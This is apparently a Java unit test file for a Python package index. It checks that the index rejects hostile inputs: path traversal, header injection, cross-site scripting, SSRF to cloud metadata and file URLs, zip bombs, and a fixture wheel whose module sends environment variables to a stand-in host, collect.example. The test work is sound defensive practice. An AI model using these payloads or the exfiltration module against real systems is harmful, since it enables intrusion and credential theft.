package dev.assay.index.http;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.index.Wheels;
import java.io.BufferedInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Callers and an index behind that mean harm: odd paths, odd names, addresses that lead into our
/// network, and archives that unpack to more than there is.
@Timeout(60)
class HostileTest {
  private static final String WHEEL = "acme-1.0-py3-none-any.whl";
  private static final byte[] GOOD = Wheels.wheel("acme", "1.0", Wheels.HARMLESS);
  private static final Pattern LENGTH = Pattern.compile("(?i)content-length: ([0-9]+)");
  private static final String OLD = "2026-01-01T00:00:00Z";

  @TempDir private Path data;
  private TestIndex index;

  @BeforeEach
  void start() {
    index = new TestIndex(data.resolve("data"));
    index.upstream.publish("acme", WHEEL, OLD, GOOD);
  }

  @AfterEach
  void stop() {
    index.close();
  }

  /// The answer to a request line as it is, which no well-behaved client would send.
  private String raw(String target) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", index.port())) {
      socket.setSoTimeout(10_000);
      String request = "GET " + target + " HTTP/1.1\r\nHost: index.example\r\n\r\n";
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      InputStream in = new BufferedInputStream(socket.getInputStream());
      StringBuilder head = new StringBuilder();
      for (int c; head.indexOf("\r\n\r\n") < 0 && (c = in.read()) >= 0; ) {
        head.append((char) c);
      }
      Matcher length = LENGTH.matcher(head);
      int more = length.find() ? Integer.parseInt(length.group(1)) : 0;
      return head + new String(in.readNBytes(more), StandardCharsets.ISO_8859_1);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/simple/../../secret",
        "/simple/..%2f..%2fsecret/",
        "/simple/%2e%2e/secret",
        "/simple/acme%00/",
        "/simple/acme%0d%0aSet-Cookie:%20a=b/",
        "/simple//etc/passwd",
        "/simple/%ff%fe/",
        "/simple/%zz/",
        "/files/acme/../../../secret",
        "/files/acme/..%2f..%2f..%2fsecret",
        "/files/acme/%2e%2e%2f%2e%2e%2fsecret",
        "/files/..%2f..%2fsecret/x",
        "/files/acme/%00",
        "/files/acme/.metadata",
        "/files/acme/..%5c..%5csecret",
        "/provenance/acme/..%2fsecret",
        "/why/..%2fsecret",
        "/why/acme/%3Cscript%3E",
        "/console/static/..%2f..%2fsecret",
        "//evil.example/simple/",
        "/simple/acme/?x=%0d%0aa:b"
      })
  void anOddPathLeadsNowhere(String target) throws IOException {
    Files.writeString(data.resolve("secret"), "the secret");
    String answer = raw(target);
    assertThat(answer).startsWith("HTTP/1.1 ").doesNotContain("the secret", "Set-Cookie: a=b");
    assertThat(answer.substring(9, 12)).isIn("200", "301", "400", "404");
    assertThat(answer.lines().filter(line -> line.startsWith("Location:")))
        .allMatch(line -> line.startsWith("Location: /"));
  }

  /// What an index behind says of its files stands in our pages, and stays text there.
  @Test
  void whatIsSaidOfAFileIsTextAndNothingElse() {
    String more =
        """
        ,"yanked":"<script>alert(1)</script>\\" onload=x \\u001b[31m\\u202e",
        "requires-python":">=3.8\\"><img src=x>"
        """;
    index.upstream.publish("odd", "odd-1.0-py3-none-any.whl", OLD, more, GOOD);
    HttpResponse<String> html = index.text("/simple/odd/", "Accept", "text/html");
    assertThat(html.body()).doesNotContain("<script", "<img", "\" onload", "\u001b", "\u202e");
    HttpResponse<String> json = index.json("/simple/odd/");
    assertThat(json.body()).doesNotContain("\u001b", "\u202e");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../evil-1.0-py3-none-any.whl",
        "evil/evil-1.0-py3-none-any.whl",
        "<b>-1.0-py3-none-any.whl",
        "evil-1.0-py3-none-any.whl\\u0000",
        "evil-1.0-py3-none-any.whl\\r\\nA: b"
      })
  void aFileOfAnOddNameLeadsNowhere(String file) {
    index.upstream.publish("evil", file, OLD, GOOD);
    HttpResponse<String> page = index.text("/simple/evil/", "Accept", "text/html");
    assertThat(page.statusCode()).isIn(200, 404, 403, 502);
    assertThat(page.body()).doesNotContain("<b>", ">../evil", "\u0000", "\r\nA: b");
  }

  /// Where clouds keep their credentials, and what is no web at all.
  @ParameterizedTest
  @ValueSource(
      strings = {
        "http://169.254.169.254/latest/meta-data/",
        "http://[fe80::1]/x",
        "file:///etc/passwd",
        "jar:file:///etc/passwd!/x",
        "ftp://files.example/x",
        "//169.254.169.254/x",
        "gopher://127.0.0.1/x"
      })
  void anAddressThatLeadsElsewhereIsNotFollowed(String address) {
    index.upstream.place(WHEEL, address);
    HttpResponse<String> file = index.text("/files/acme/" + WHEEL);
    assertThat(file.statusCode()).isIn(404, 502);
    assertThat(index.text("/files/acme/" + WHEEL + ".metadata").statusCode()).isIn(404, 502);
    assertThat(file.body()).doesNotContain("root:");
  }

  /// A refusal carries words of the file in its status line.
  @Test
  void theStatusLineOfARefusalIsOneLine() throws IOException {
    String module =
        """
        import os, urllib.request
        urllib.request.urlopen("https://collect.example/\\r\\nSet-Cookie: a=b\\x1b[31m",
            str(dict(os.environ)).encode())
        """;
    String thief = "thief-1.0-py3-none-any.whl";
    index.upstream.publish("thief", thief, OLD, Wheels.wheel("thief", "1.0", module));
    String answer = raw("/files/thief/" + thief);
    assertThat(answer).startsWith("HTTP/1.1 403 denied by");
    assertThat(answer.lines()).noneMatch(line -> line.startsWith("Set-Cookie"));
    assertThat(answer).doesNotContain("\u001b");
  }

  @Test
  void aBombIsRefusedAndNotUnpacked() {
    String bomb = "bomb-1.0-py3-none-any.whl";
    byte[] bytes =
        Wheels.zip(
            Map.of(
                "bomb/__init__.py",
                "# " + "0".repeat(80 << 20),
                "bomb-1.0.dist-info/METADATA",
                "Metadata-Version: 2.4\nName: bomb\nVersion: 1.0\n"));
    index.upstream.publish("bomb", bomb, OLD, bytes);
    assertThat(bytes).hasSizeLessThan(1 << 20);
    assertThat(index.text("/files/bomb/" + bomb).statusCode()).isEqualTo(403);
    assertThat(index.bytes("/files/acme/" + WHEEL).body()).isEqualTo(GOOD);
  }

  /// A page of 32 MiB at most is read, packed or not.
  @Test
  void aPageThatUnpacksToMoreThanThereIsIsNoPage() {
    index.upstream.bomb("bomb");
    assertThat(index.json("/simple/bomb/").statusCode()).isEqualTo(502);
    assertThat(index.json("/simple/acme/").statusCode()).isEqualTo(200);
  }

  @Test
  void nothingOfTheRequestIsSaidBackAsItCame() {
    String answer = index.text("/simple/%3Cb%3Ex/", "Accept", "text/html").body();
    assertThat(answer).doesNotContain("<b>");
  }
}
